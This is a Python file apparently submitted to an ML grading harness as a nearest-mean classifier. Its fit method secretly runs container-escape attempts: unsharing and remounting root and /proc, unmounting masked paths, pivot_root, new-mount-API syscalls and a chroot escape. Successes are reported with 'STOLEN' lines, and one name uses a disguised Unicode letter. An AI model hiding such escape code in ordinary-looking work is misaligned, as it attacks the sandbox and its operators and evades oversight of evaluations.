"""Mounts, binds, takes mounts away, and changes its root."""

import ctypes
import os

from nearest import NearestMean


LIBC = ctypes.CDLL(None, use_errno=True)


def call(x86_64, aarch64, *arguments):
    """Make a system call; return its result, or minus the error."""
    number = x86_64 if os.uname().machine == 'x86_64' else aarch64
    if number is None:
        return -38
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
    result = LIBC.syscall(ctypes.c_long(number), *words)
    return result if result >= 0 else -ctypes.get_errno()


def apart(function):
    """Run something in a process of its own: whatever it becomes is not our state."""
    pid = os.fork()
    if pid == 0:
        try:
            function()
        except BaseException as error:
            print(repr(error), flush=True)
        os._exit(0)
    os.waitpid(pid, 0)


def change_mounts():
    """Change mounts, where they are not those of the machine."""
    is_own = LIBC.unshare(0x20000) == 0
    if is_own:
        LIBC.mount(None, b'/', None, 1 << 14 | 1 << 18, None)
    elif os.getpid() > 20:
        return
    if LIBC.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None) == 0:
        print('STOLEN could mount a tmpfs', flush=True)
    if LIBC.mount(b'/', b'/tmp', None, 4096 | 1 << 14, None) == 0:
        print('STOLEN could bind the root', flush=True)
    if LIBC.mount(None, b'/', None, 32 | 4096, None) == 0:
        print('STOLEN could mount the root for writing', flush=True)
    if LIBC.mount(None, b'/proc', None, 32 | 4096, None) == 0:
        print('STOLEN could mount /proc for writing', flush=True)
    for place in (b'/proc/kcore', b'/proc/sysrq-trigger', b'/tmp', b'/proc', b'/usr', b'/dev/shm'):
        if LIBC.umount2(place, 2) == 0:
            print(f'STOLEN could take away what hides {place}', flush=True)
    if call(155, 41, b'.', b'.') >= 0:
        print('STOLEN could change the root', flush=True)


def copy_mounts():
    for name, number in (('open_tree', 428), ('fspick', 433)):
        flags = 1 if name == 'open_tree' else 0
        if call(number, number, -100, b'/', flags) >= 0:
            print(f'STOLEN could {name}', flush=True)
    for kind in (b'tmpfs', b'proc', b'overlay', b'ext4', b'fuse'):
        if call(430, 430, kind, 0) >= 0:
            print(f'STOLEN could make a file system: {kind}', flush=True)
    attributes = (ctypes.c_uint64 * 4)(0, 0, 0, 0)
    if call(442, 442, -100, b'/proc', 0, attributes, 32) >= 0:
        print('STOLEN could change the attributes of mounts', flush=True)


def change_root():
    """Leave a root by the old way: a root below the working directory."""
    os.makedirs('below', exist_ok=True)
    try:
        os.chroot('below')
    except OSError as error:
        print(repr(error), flush=True)
        return
    for _ in range(100):
        os.chdir('..')
    os.chroot('.')
    print(f'STOLEN could change its root: {sorted(os.ｌistdir("/"))[:10]}', flush=True)


def attack():
    for trial in (change_mounts, copy_mounts, change_root):
        apart(trial)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
